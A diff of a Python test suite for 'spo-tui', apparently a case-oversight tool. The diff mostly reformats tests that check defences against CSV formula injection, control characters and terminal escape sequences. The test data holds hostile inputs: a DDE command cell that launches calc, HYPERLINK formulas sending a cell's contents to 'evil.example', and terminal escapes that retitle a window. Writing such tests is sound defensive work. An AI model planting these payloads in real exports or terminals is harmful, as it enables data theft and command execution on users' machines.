@@ -22,10 +22,10 @@ from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
-from sqlcipher3 import dbapi2 as cipher
 from conftest import CASPO, HIGH_CRN, NOW, PO, SPO, fixed_clock, insert_spo, link_me, snapshot, ui_team
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from sqlcipher3 import dbapi2 as cipher
 
 from spo_tui import cli
 from spo_tui.config import load_rules
@@ -45,13 +45,22 @@ MARKUP_NAME = "[bold red]Ann[/] [@click=app.quit]Smith[/]"
 REFUSED = ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066", "\udcff"]
 
 
-def run(*args: str, stdin: bytes | None = None, env: dict | None = None, timeout: float = 60, runner: list[str] | None = None):
+def run(
+    *args: str,
+    stdin: bytes | None = None,
+    env: dict | None = None,
+    timeout: float = 60,
+    runner: list[str] | None = None,
+):
     """``spo-tui ARGS`` in a real process; stdout and stderr as bytes, so a raw ESC byte is seen."""
     command = runner or [sys.executable, "-m", "spo_tui"]
     return subprocess.run(
-        [*command, *args], input=stdin, capture_output=True, timeout=timeout,
+        [*command, *args],
+        input=stdin,
+        capture_output=True,
+        timeout=timeout,
         env={**os.environ, "SPO_TUI_TODAY": TODAY, **(env or {})},
-    )  # fmt: skip
+    )
 
 
 def one_line_exit_2(result) -> str:
@@ -86,9 +95,14 @@ def test_line_breaks_and_tabs_only_in_a_field_of_several_lines():
     with pytest.raises(ValidationError, match="title holds a tab at character 4: remove it"):
         check_text("one\ttwo", "title")
     # Windows and word-processor line breaks become \n in a multi-line field; tabs stay.
-    assert check_text("one\r\ntwo\rthree\x0bfour\u2028five\tsix", "details", multiline=True) == "one\ntwo\nthree\nfour\nfive\tsix"
+    assert (
+        check_text("one\r\ntwo\rthree\x0bfour\u2028five\tsix", "details", multiline=True)
+        == "one\ntwo\nthree\nfour\nfive\tsix"
+    )
     assert check_text("  Ann Smith  ", "name") == "Ann Smith"
-    assert check_text("Zoë O’Brien — 李小龙 🙂 \u200f", "name") == "Zoë O’Brien — 李小龙 🙂 \u200f"  # letters and marks are fine
+    assert (
+        check_text("Zoë O’Brien — 李小龙 🙂 \u200f", "name") == "Zoë O’Brien — 李小龙 🙂 \u200f"
+    )  # letters and marks are fine
 
 
 def test_visible_shows_each_control_character_as_an_escape():
@@ -105,8 +119,9 @@ def test_json_text_escapes_what_json_dumps_leaves_raw_and_keeps_the_data_exact()
     assert json.loads(encoded) == value
 
 
-@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "  =1+1",
-                                  "\uff1d1+1"])  # fmt: skip
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "  =1+1", "\uff1d1+1"]
+)
 def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(cell):
     safe = csv_cell(cell)
     assert safe.startswith("'")
@@ -122,22 +137,37 @@ def test_ordinary_cells_are_unchanged():
 
 
 def _contact(**changes) -> Contact:
-    base = dict(oversight_id="e1", crn="X123456", date="23/11/2026", time="09:00", type_code="MO1",
-                type_label="Management Oversight", outcome_code=None, outcome_label="Guidance given",
-                notes="Comment added by Sam\n\nDiscussed:\nx", sensitive=False, staff="Sam Spo", entered_by="Sam Spo",
-                supersedes=None)  # fmt: skip
+    base = {
+        "oversight_id": "e1",
+        "crn": "X123456",
+        "date": "23/11/2026",
+        "time": "09:00",
+        "type_code": "MO1",
+        "type_label": "Management Oversight",
+        "outcome_code": None,
+        "outcome_label": "Guidance given",
+        "notes": "Comment added by Sam\n\nDiscussed:\nx",
+        "sensitive": False,
+        "staff": "Sam Spo",
+        "entered_by": "Sam Spo",
+        "supersedes": None,
+    }
     return Contact(**{**base, **changes})
 
 
 def test_the_csv_export_neutralises_every_formula_cell_and_control_character():
-    contact = _contact(staff="=HYPERLINK(\"http://evil\",\"Sam\")", entered_by="+cmd|' /C calc'!A0",
-                       notes="-1+1\x1b]0;x\x07", type_label="@SUM(1)")  # fmt: skip
+    contact = _contact(
+        staff='=HYPERLINK("http://evil","Sam")',
+        entered_by="+cmd|' /C calc'!A0",
+        notes="-1+1\x1b]0;x\x07",
+        type_label="@SUM(1)",
+    )
     text = contacts_csv([contact])
     assert "\x1b" not in text and "\x07" not in text
     rows = list(csv.DictReader(io.StringIO(text)))
     for value in rows[0].values():
         assert not value.startswith(FORMULA_STARTS), value
-    assert rows[0]["staff"] == "'=HYPERLINK(\"http://evil\",\"Sam\")"
+    assert rows[0]["staff"] == '\'=HYPERLINK("http://evil","Sam")'
     assert rows[0]["entered_by"] == "'+cmd|' /C calc'!A0"
     assert rows[0]["notes"] == "'-1+1\\x1b]0;x\\x07"
 
@@ -153,7 +183,7 @@ def test_staff_imported_as_formulas_reach_the_oversight_csv_as_text(tmp_path, ru
     """Through the CLI as the CASPO would meet it: import staff, record an entry, export the CSV."""
     path = tmp_path / "f.db"
     db = open_db(path)
-    insert_spo(db, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Sam Spo\")")
+    insert_spo(db, '=HYPERLINK("http://evil.example/?"&A1,"Sam Spo")')
     ctx = make_context(db, rules, clock=fixed_clock(NOW))
     staff = tmp_path / "staff.csv"
     staff.write_text("name,role\n+cmd|' /C calc'!A0,CASPO\n@SUM(1+1),PO\n")
@@ -171,7 +201,7 @@ def test_staff_imported_as_formulas_reach_the_oversight_csv_as_text(tmp_path, ru
     assert len(rows) == 1
     for column, value in rows[0].items():
         assert not value.lstrip(" ").startswith(FORMULA_STARTS), (column, value)
-    assert rows[0]["staff"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Sam Spo\")"
+    assert rows[0]["staff"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Sam Spo")'
     assert rows[0]["entered_by"] == "'+cmd|' /C calc'!A0"
 
 
@@ -199,11 +229,23 @@ def _calls(ctx, bad: str):
         ("note", lambda: admin.add_transfer(ctx, HIGH_CRN, "out", "Wales", note=f"n{bad}")),
         ("description", lambda: admin.set_flag(ctx, HIGH_CRN, "ADVP", description=f"d{bad}")),
         ("situation", lambda: admin.update_sbar(ctx, sbar(), situation=f"s{bad}")),
-        ("discussed", lambda: decisions.record_oversight(ctx, crn=HIGH_CRN, outcome="guidance_given", discussed=f"x{bad}",
-                                                         decision="y")),  # fmt: skip
-        ("action_1", lambda: decisions.record_oversight(
-            ctx, crn=HIGH_CRN, outcome="guidance_given", discussed="x", decision="y",
-            actions=[decisions.AgreedAction(f"do{bad}", PO)])),  # fmt: skip
+        (
+            "discussed",
+            lambda: decisions.record_oversight(
+                ctx, crn=HIGH_CRN, outcome="guidance_given", discussed=f"x{bad}", decision="y"
+            ),
+        ),
+        (
+            "action_1",
+            lambda: decisions.record_oversight(
+                ctx,
+                crn=HIGH_CRN,
+                outcome="guidance_given",
+                discussed="x",
+                decision="y",
+                actions=[decisions.AgreedAction(f"do{bad}", PO)],
+            ),
+        ),
         ("question", lambda: decisions.request_more_information(ctx, sbar(), f"q{bad}")),
         ("note", lambda: decisions.escalate_sbar(ctx, sbar(), "MAPPA", f"n{bad}")),
         ("text", lambda: rhythm.add_team_note(ctx, "note", f"t{bad}")),
@@ -227,7 +269,12 @@ def test_every_service_refuses_control_characters_naming_the_field_and_writes_no
             assert "control character" in message or "text-direction" in message, message
         # Only the SBAR made to have something to act on (and its link in the record) may have been written.
         after = snapshot(db)
-        assert {t: rows for t, rows in after.items() if rows != before[t]}.keys() <= {"items", "sbars", "audit_log", "record_chain"}
+        assert {t: rows for t, rows in after.items() if rows != before[t]}.keys() <= {
+            "items",
+            "sbars",
+            "audit_log",
+            "record_chain",
+        }
         refused += 1
     assert refused == len(_calls(ctx, bad))
     assert not any(bad in str(row) for rows in snapshot(db).values() for row in rows)
@@ -264,10 +311,14 @@ def test_a_year_9999_is_refused_by_the_cli_and_the_import(tmp_path):
     added = run("--db", str(path), "add", "task", "--title", "Chairs", "--category", "buildings", "--due", "9999-12-31")
     assert "'9999-12-31' is outside the dates spo-tui accepts (1900 to 2100)" in one_line_exit_2(added)
     cases = tmp_path / "cases.csv"
-    cases.write_text("crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann,Pat Officer,LOW,LICENCE,0001-01-01\n")
+    cases.write_text(
+        "crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann,Pat Officer,LOW,LICENCE,0001-01-01\n"
+    )
     imported = run("--db", str(path), "import", "cases", str(cases))
     assert imported.returncode == 1
-    assert b"line 2, sentence_start: '0001-01-01' is outside the dates spo-tui accepts (1900 to 2100)" in imported.stdout
+    assert (
+        b"line 2, sentence_start: '0001-01-01' is outside the dates spo-tui accepts (1900 to 2100)" in imported.stdout
+    )
     assert read_one(path, "SELECT COUNT(*) FROM cases WHERE crn = 'A111111'") == 0
 
 
@@ -318,7 +369,9 @@ def test_a_fifo_is_refused_at_once_instead_of_hanging(tmp_path):
     result = run("--db", str(path), "import", "cases", str(fifo), timeout=30)
 
     line = one_line_exit_2(result)
-    assert line == f"spo-tui: {fifo} is not a regular file (a FIFO or pipe): give a CSV file, or - to read standard input"
+    assert (
+        line == f"spo-tui: {fifo} is not a regular file (a FIFO or pipe): give a CSV file, or - to read standard input"
+    )
 
 
 def test_a_device_is_refused_too(ctx):
@@ -343,10 +396,17 @@ def test_standard_input_redirected_from_a_file_works_too(tmp_path):
     path = tmp_path / "d.db"
     ui_team(path).db.close()
     source = tmp_path / "cases.csv"
-    source.write_bytes(b"crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann,Pat Officer,LOW,LICENCE,01/10/2026\n")
+    source.write_bytes(
+        b"crn,name,practitioner,rosh,sentence_type,sentence_start\nA111111,Ann,Pat Officer,LOW,LICENCE,01/10/2026\n"
+    )
     with open(source, "rb") as handle:
-        result = subprocess.run([sys.executable, "-m", "spo_tui", "--db", str(path), "import", "cases", "-", "--dry-run"],
-                                stdin=handle, capture_output=True, timeout=60, env={**os.environ, "SPO_TUI_TODAY": TODAY})  # fmt: skip
+        result = subprocess.run(
+            [sys.executable, "-m", "spo_tui", "--db", str(path), "import", "cases", "-", "--dry-run"],
+            stdin=handle,
+            capture_output=True,
+            timeout=60,
+            env={**os.environ, "SPO_TUI_TODAY": TODAY},
+        )
     assert result.returncode == 0, result.stderr
     assert b"1 added" in result.stdout and b"dry run" in result.stdout
 
@@ -396,9 +456,28 @@ def test_both_export_formats_print_no_control_character(poisoned, fmt):
 
 
 def test_an_error_that_echoes_the_input_shows_its_control_characters_as_escapes(poisoned):
-    result = run("--db", str(poisoned), "add", "sbar", "--crn", "X123456", "--by", "Nobody \x1b]0;x\x07",
-                 "--situation", "s", "--background", "b", "--assessment", "a", "--recommendation", "r")  # fmt: skip
-    assert one_line_exit_2(result) == "spo-tui: raised by holds a control character (\\x1b) at character 8 (and 1 more): remove it"
+    result = run(
+        "--db",
+        str(poisoned),
+        "add",
+        "sbar",
+        "--crn",
+        "X123456",
+        "--by",
+        "Nobody \x1b]0;x\x07",
+        "--situation",
+        "s",
+        "--background",
+        "b",
+        "--assessment",
+        "a",
+        "--recommendation",
+        "r",
+    )
+    assert (
+        one_line_exit_2(result)
+        == "spo-tui: raised by holds a control character (\\x1b) at character 8 (and 1 more): remove it"
+    )
     titled = run("--db", str(poisoned), "add", "task", "--title", "\x1b]0;pwned\x07", "--category", "it")
     assert "title holds a control character (\\x1b)" in one_line_exit_2(titled)
     assert read_one(poisoned, "SELECT COUNT(*) FROM items WHERE kind = 'task'") == 0
@@ -424,8 +503,18 @@ def read_only_runner():
         if os.geteuid() == 0:
             if not _can_mount_read_only():
                 pytest.skip("running as root without a mount namespace: no way to make a folder read-only")
-            return ["unshare", "--mount", "sh", "-c", 'mount --bind -o ro "$1" "$1" && shift && exec "$@"', "sh",
-                    str(folder), sys.executable, "-m", "spo_tui"]  # fmt: skip
+            return [
+                "unshare",
+                "--mount",
+                "sh",
+                "-c",
+                'mount --bind -o ro "$1" "$1" && shift && exec "$@"',
+                "sh",
+                str(folder),
+                sys.executable,
+                "-m",
+                "spo_tui",
+            ]
         for p in [folder, *folder.iterdir()]:
             restore.append((p, stat.S_IMODE(p.stat().st_mode)))
             p.chmod(0o500 if p.is_dir() else 0o400)
@@ -444,8 +533,12 @@ def test_as_on_a_read_only_database_says_so_in_one_line(tmp_path, read_only_runn
     before = path.read_bytes()
     runner = read_only_runner(folder)
 
-    added = run("--db", str(path), "--as", "Cas Admin", "add", "task", "--title", "Chairs", "--category", "it", runner=runner)
-    assert one_line_exit_2(added) == "spo-tui: this database is read-only here (no write permission): nothing can be saved"
+    added = run(
+        "--db", str(path), "--as", "Cas Admin", "add", "task", "--title", "Chairs", "--category", "it", runner=runner
+    )
+    assert (
+        one_line_exit_2(added) == "spo-tui: this database is read-only here (no write permission): nothing can be saved"
+    )
     queue = run("--db", str(path), "--as", "Cas Admin", "queue", runner=runner)
     # Reading a read-only store may work; if it cannot, it says why in one line. Never a traceback.
     if queue.returncode != 0:
@@ -471,7 +564,9 @@ def test_backup_into_a_missing_folder_or_beneath_a_file_is_one_line(tmp_path):
     path = tmp_path / "d.db"
     ui_team(path).db.close()
     missing = tmp_path / "no-such-folder" / "b.db"
-    assert one_line_exit_2(run("--db", str(path), "backup", "--to", str(missing))).startswith(f"spo-tui: cannot back up to {missing}")
+    assert one_line_exit_2(run("--db", str(path), "backup", "--to", str(missing))).startswith(
+        f"spo-tui: cannot back up to {missing}"
+    )
     (tmp_path / "a-file").write_text("x")
     beneath = tmp_path / "a-file" / "b.db"
     assert one_line_exit_2(run("--db", str(path), "backup", "--to", str(beneath))).startswith("spo-tui: cannot back up")
@@ -505,13 +600,17 @@ def test_queue_limit_with_a_25_digit_number_is_one_line(tmp_path):
         [b"--db", b"DB", b"add", b"task", b"--title", b"Chairs \xfe", b"--category", b"it"],
         [b"--db", b"DB", b"import", b"cases", b"\xff.csv"],
     ],
-)  # fmt: skip
+)
 def test_an_argument_that_is_not_utf8_is_one_line(tmp_path, args):
     path = tmp_path / "d.db"
     ui_team(path).db.close()
     argv = [os.fsencode(path) if a == b"DB" else a for a in args]
-    result = subprocess.run([sys.executable.encode(), b"-m", b"spo_tui", *argv], capture_output=True, timeout=60,
-                            env={**os.environ, "SPO_TUI_TODAY": TODAY})  # fmt: skip
+    result = subprocess.run(
+        [sys.executable.encode(), b"-m", b"spo_tui", *argv],
+        capture_output=True,
+        timeout=60,
+        env={**os.environ, "SPO_TUI_TODAY": TODAY},
+    )
     line = one_line_exit_2(result)
     assert "is not valid UTF-8 text" in line and "\\x" in line
     assert read_one(path, "SELECT COUNT(*) FROM items WHERE kind = 'task'") == 0
@@ -521,8 +620,13 @@ def test_verify_on_a_file_damaged_past_its_header_is_one_line(tmp_path):
     path = tmp_path / "damaged.db"
     ctx = ui_team(path)
     for n in range(300):
-        decisions.record_oversight(ctx, crn="X123456", outcome="guidance_given", discussed=f"case discussed {n} " * 8,
-                                   decision=f"decision {n} " * 8)  # fmt: skip
+        decisions.record_oversight(
+            ctx,
+            crn="X123456",
+            outcome="guidance_given",
+            discussed=f"case discussed {n} " * 8,
+            decision=f"decision {n} " * 8,
+        )
     ctx.db.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
     pages = [p for (p,) in ctx.db.execute("SELECT pageno FROM dbstat WHERE name = 'oversight_entries' ORDER BY pageno")]
     page_size = ctx.db.execute("PRAGMA page_size").fetchone()[0]
@@ -545,10 +649,13 @@ def test_verify_on_a_file_damaged_past_its_header_is_one_line(tmp_path):
         (sqlite3.DatabaseError("database disk image is malformed"), "spo-tui: the database file is damaged"),
         (cipher.OperationalError("database is locked"), "spo-tui: the database is busy"),  # not a sqlite3.Error
         (PermissionError(13, "Permission denied", "/x/y.db"), "spo-tui: cannot use /x/y.db: Permission denied"),
-        (UnicodeEncodeError("utf-8", "\udcff", 0, 1, "surrogates not allowed"), "spo-tui: text that is not valid UTF-8"),
+        (
+            UnicodeEncodeError("utf-8", "\udcff", 0, 1, "surrogates not allowed"),
+            "spo-tui: text that is not valid UTF-8",
+        ),
         (ValidationError("bad \x1b[2J thing"), "spo-tui: bad \\x1b[2J thing"),
     ],
-)  # fmt: skip
+)
 def test_the_last_guard_turns_any_file_or_database_error_into_one_line(monkeypatch, capsys, error, expected):
     def fails(args):
         raise error
@@ -644,7 +751,11 @@ async def test_the_app_draws_escape_sequences_visibly_and_markup_literally(poiso
 _SAFE = "=+-@ ,\";:'[]/aZé李"
 _FUZZ = st.one_of(
     st.text(alphabet=st.sampled_from(list(_SAFE)), min_size=1, max_size=10),
-    st.text(alphabet=st.sampled_from(list(_SAFE + "\t\r\n\x00\x07\x1b\x7f\x9b\u202e\u2066\u2028\u2029")), min_size=1, max_size=10),
+    st.text(
+        alphabet=st.sampled_from(list(_SAFE + "\t\r\n\x00\x07\x1b\x7f\x9b\u202e\u2066\u2028\u2029")),
+        min_size=1,
+        max_size=10,
+    ),
 )
 
 
@@ -658,9 +769,15 @@ def _stored_text_is_clean(db) -> None:
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(names=st.lists(_FUZZ, min_size=1, max_size=3, unique=True), teams=st.lists(_FUZZ, min_size=3, max_size=3),
-       case_name=_FUZZ, lead=st.sampled_from(["", "=", "+", "-", "@"]))  # fmt: skip
-def test_fuzzed_imports_are_refused_cleanly_or_stored_clean_and_export_no_formula(tmp_path_factory, names, teams, case_name, lead):
+@given(
+    names=st.lists(_FUZZ, min_size=1, max_size=3, unique=True),
+    teams=st.lists(_FUZZ, min_size=3, max_size=3),
+    case_name=_FUZZ,
+    lead=st.sampled_from(["", "=", "+", "-", "@"]),
+)
+def test_fuzzed_imports_are_refused_cleanly_or_stored_clean_and_export_no_formula(
+    tmp_path_factory, names, teams, case_name, lead
+):
     folder = tmp_path_factory.mktemp("fuzz")
     db = open_db(folder / "f.db")
     insert_spo(db, lead + "Sam Spo")
@@ -671,12 +788,16 @@ def test_fuzzed_imports_are_refused_cleanly_or_stored_clean_and_export_no_formul
     staff = io.StringIO()
     writer = csv.writer(staff)
     writer.writerow(["name", "role", "team", "email"])
-    for name, team_name in zip(names, teams):
+    for name, team_name in zip(names, teams, strict=False):
         writer.writerow([lead + name, "CASPO", team_name, team_name])
     (folder / "staff.csv").write_bytes(staff.getvalue().encode("utf-8", "surrogatepass"))
     cases = io.StringIO()
-    csv.writer(cases).writerows([["crn", "name", "practitioner", "rosh", "sentence_type", "sentence_start", "tier"],
-                                 ["A111111", lead + case_name, lead + "Sam Spo", "LOW", "LICENCE", "01/10/2026", case_name]])  # fmt: skip
+    csv.writer(cases).writerows(
+        [
+            ["crn", "name", "practitioner", "rosh", "sentence_type", "sentence_start", "tier"],
+            ["A111111", lead + case_name, lead + "Sam Spo", "LOW", "LICENCE", "01/10/2026", case_name],
+        ]
+    )
     (folder / "cases.csv").write_text(cases.getvalue())
 
     imported_staff = None
@@ -698,7 +819,9 @@ def test_fuzzed_imports_are_refused_cleanly_or_stored_clean_and_export_no_formul
 
     if imported_staff is not None:
         caspo = make_context(db, rules, imported_staff[0], clock=fixed_clock(NOW))
-        decisions.record_oversight(caspo, crn=HIGH_CRN, outcome="guidance_given", discussed=lead + "x", decision=lead + "y")
+        decisions.record_oversight(
+            caspo, crn=HIGH_CRN, outcome="guidance_given", discussed=lead + "x", decision=lead + "y"
+        )
         text, count = export.export_oversight(caspo, fmt="csv")
         assert count == 1
         assert all(ch not in text for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\x00"))
@@ -711,8 +834,15 @@ def test_fuzzed_imports_are_refused_cleanly_or_stored_clean_and_export_no_formul
 def test_the_markdown_exports_show_stored_control_characters_as_escapes(ctx, db):
     """A check-in note stored with an escape sequence (by an older version) is written out visibly."""
     rhythm.add_team_note(ctx, "concern", "Worried about X123456")
-    db.table("team_notes").insert({"id": "n-old", "day": ctx.today.isoformat(), "kind": "note",
-                                   "text": "Said \x1b]0;pwned\x07 at reception", "created_at": ctx.now_iso})  # fmt: skip
+    db.table("team_notes").insert(
+        {
+            "id": "n-old",
+            "day": ctx.today.isoformat(),
+            "kind": "note",
+            "text": "Said \x1b]0;pwned\x07 at reception",
+            "created_at": ctx.now_iso,
+        }
+    )
     db.execute("UPDATE cases SET name = ? WHERE crn = ?", ["Alex \x1b[2J Example", HIGH_CRN])
 
     text = rhythm.checkin_export(ctx) + team.monthly_export(ctx)
@@ -728,16 +858,25 @@ async def test_a_form_shows_stored_names_in_its_choices_and_fields_literally(poi
     app = SpoApp(poisoned, clock=fixed_clock(NOW))
     async with app.run_test(size=(160, 45)) as pilot:
         await pilot.pause(0.3)
-        form = EntryForm(heading="Correct \x1b]0;x\x07 the case", submit=lambda values: None, changed_only=True, fields=[
-            Field("practitioner", "Practitioner", "select", [("[b]Pat[/] \x1b[2J Officer", "pat")], value="pat"),
-            Field("name", "Name", value="Joe \x1b[2J [red]Bloggs[/]"),
-            Field("notes", "Notes", "textarea", value="line \x1b]0;x\x07 one\nline two"),
-        ])  # fmt: skip
+        form = EntryForm(
+            heading="Correct \x1b]0;x\x07 the case",
+            submit=lambda values: None,
+            changed_only=True,
+            fields=[
+                Field("practitioner", "Practitioner", "select", [("[b]Pat[/] \x1b[2J Officer", "pat")], value="pat"),
+                Field("name", "Name", value="Joe \x1b[2J [red]Bloggs[/]"),
+                Field("notes", "Notes", "textarea", value="line \x1b]0;x\x07 one\nline two"),
+            ],
+        )
         await app.push_screen(form)
         await pilot.pause()
         text = drawn(app)
         assert_no_control_characters(text)
-        for shown in ("Correct \\x1b]0;x\\x07 the case", "[b]Pat[/] \\x1b[2J Officer", "Joe \\x1b[2J [red]Bloggs[/]",
-                      "line \\x1b]0;x\\x07 one"):  # fmt: skip
+        for shown in (
+            "Correct \\x1b]0;x\\x07 the case",
+            "[b]Pat[/] \\x1b[2J Officer",
+            "Joe \\x1b[2J [red]Bloggs[/]",
+            "line \\x1b]0;x\\x07 one",
+        ):
             assert shown in text, shown
         assert form.values() == {}  # opening shows the escapes; nothing counts as changed until typed
